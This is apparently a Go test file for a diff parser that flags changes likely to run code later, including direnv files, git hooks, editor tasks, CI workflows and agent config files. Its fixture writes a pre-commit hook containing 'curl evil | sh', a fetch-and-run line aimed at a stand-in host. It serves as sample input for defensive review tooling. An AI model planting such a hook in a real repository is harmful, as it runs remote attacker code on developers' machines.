package patch

import (
	"slices"
	"strings"
	"testing"
)

// fixture is a base repository and a change touching every kind of file the
// review shows: a flagged .envrc, a new executable hook, a Go file with
// three hunks, a binary file, a deleted file, a mode change and a file
// losing its final newline.
func fixture(t *testing.T) (*repo, *repo) {
	t.Helper()
	r := newRepo(t)
	r.write("main.go", body(lines("main", 60)), 0o644)
	r.write("util.go", body(lines("util", 30)), 0o644)
	r.write("old.txt", "going away\n", 0o644)
	r.write("run.sh", "#!/bin/sh\necho hi\n", 0o644)
	r.write("logo.png", "\x89PNG\r\n\x1a\n\x00\x01\x02old", 0o644)
	r.write("notes.txt", "a\nb\n", 0o644)
	r.commitAll()
	base := r.clone()

	m := lines("main", 60)
	m[2] = "main CHANGED 3"                                            // hunk 0
	m = slices.Insert(m, 30, "inserted A", "inserted B", "inserted C") // hunk 1: +3
	m[56] = "main CHANGED 54"                                          // hunk 2
	r.write("main.go", body(m), 0o644)
	u := lines("util", 30)
	u[1] = "util CHANGED 2"
	u = slices.Delete(u, 20, 22) // -2
	r.write("util.go", body(u), 0o644)
	r.write(".envrc", "export PATH=$PWD/bin:$PATH\n", 0o644)
	r.write(".githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
	r.git("rm", "-q", "old.txt")
	r.write("run.sh", "#!/bin/sh\necho hi\n", 0o755)
	r.write("logo.png", "\x89PNG\r\n\x1a\n\x00\x01\x02new\x00\xff", 0o644)
	r.write("notes.txt", "a\nb", 0o644)
	return r, base
}

func TestParseFixture(t *testing.T) {
	r, _ := fixture(t)
	files, err := Parse(r.diff())
	if err != nil {
		t.Fatal(err)
	}
	Sort(files)
	type row struct {
		path   string
		status Status
		binary bool
		adds   int
		dels   int
		hunks  int
		reason string
	}
	var got []row
	for _, f := range files {
		got = append(got, row{f.Path, f.Status, f.Binary, f.Adds, f.Dels, len(f.Hunks), f.FlagReason})
	}
	want := []row{
		{".envrc", Added, false, 1, 0, 1, "direnv runs it on cd"},
		{".githooks/pre-commit", Added, false, 2, 0, 1, "git hook · new executable"},
		{"run.sh", Mode, false, 0, 0, 0, "made executable"},
		{"logo.png", Modified, true, 0, 0, 0, ""},
		{"main.go", Modified, false, 5, 2, 3, ""},
		{"notes.txt", Modified, false, 1, 1, 1, ""},
		{"old.txt", Deleted, false, 0, 1, 1, ""},
		{"util.go", Modified, false, 1, 3, 2, ""},
	}
	if !slices.Equal(got, want) {
		t.Fatalf("parsed files:\n got %+v\nwant %+v", got, want)
	}
	for _, f := range files {
		if f.Path == "notes.txt" && !slices.Contains(f.Hunks[0].Lines, `\ No newline at end of file`) {
			t.Errorf("notes.txt lost its no-newline marker: %q", f.Hunks[0].Lines)
		}
		if f.Path == "run.sh" && (f.OldMode != "100644" || f.NewMode != "100755") {
			t.Errorf("run.sh modes %s → %s, want 100644 → 100755", f.OldMode, f.NewMode)
		}
		if f.Path == "logo.png" && !strings.Contains(f.Header, "GIT binary patch") {
			t.Errorf("logo.png header lost the binary patch:\n%s", f.Header)
		}
	}
}

func TestParseRenameAndQuotedPaths(t *testing.T) {
	r := newRepo(t)
	r.write("dir/a file.txt", body(lines("x", 20)), 0o644)
	r.write("héllo.txt", "one\n", 0o644)
	r.commitAll()
	r.write(".vscode/tasks.json", body(lines("x", 20)), 0o644)
	r.git("rm", "-q", "dir/a file.txt")
	r.write("héllo.txt", "two\n", 0o644)
	files, err := Parse(r.diff("-M"))
	if err != nil {
		t.Fatal(err)
	}
	Sort(files)
	if len(files) != 2 {
		t.Fatalf("got %d files, want 2: %+v", len(files), files)
	}
	if f := files[0]; f.Status != Renamed || f.Path != ".vscode/tasks.json" || f.OldPath != "dir/a file.txt" || !f.Flagged {
		t.Errorf("rename parsed as %+v", f)
	}
	if f := files[1]; f.Path != "héllo.txt" || f.Status != Modified {
		t.Errorf("quoted path parsed as %q (%s)", f.Path, f.Status)
	}
}

func TestParseRejectsBrokenDiffs(t *testing.T) {
	for name, diff := range map[string]string{
		"garbage before":  "hello\ndiff --git a/x b/x\n",
		"short hunk":      "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n-b\n",
		"bad hunk header": "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,x +1 @@\n a\n",
		"stray line":      "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nwhat\n",
		"odd header line": "diff --git a/x b/x\nsurprise\n",
	} {
		t.Run(name, func(t *testing.T) {
			if files, err := Parse([]byte(diff)); err == nil {
				t.Fatalf("Parse accepted a broken diff: %+v", files)
			}
		})
	}
}

func TestRunsCodeLater(t *testing.T) {
	for _, tc := range []struct {
		path string
		want bool
	}{
		{".envrc", true}, {"sub/.envrc", true}, {".vscode/settings.json", true},
		{".github/workflows/ci.yml", true}, {".husky/pre-push", true}, {".bashrc", true},
		{".claude/settings.json", true}, {".mcp.json", true}, {".gitattributes", true},
		{"main.go", false}, {"docs/vscode.md", false}, {"github/workflows.txt", false},
	} {
		if got := RunsCodeLater(tc.path); got != tc.want {
			t.Errorf("RunsCodeLater(%q) = %v, want %v", tc.path, got, tc.want)
		}
	}
}
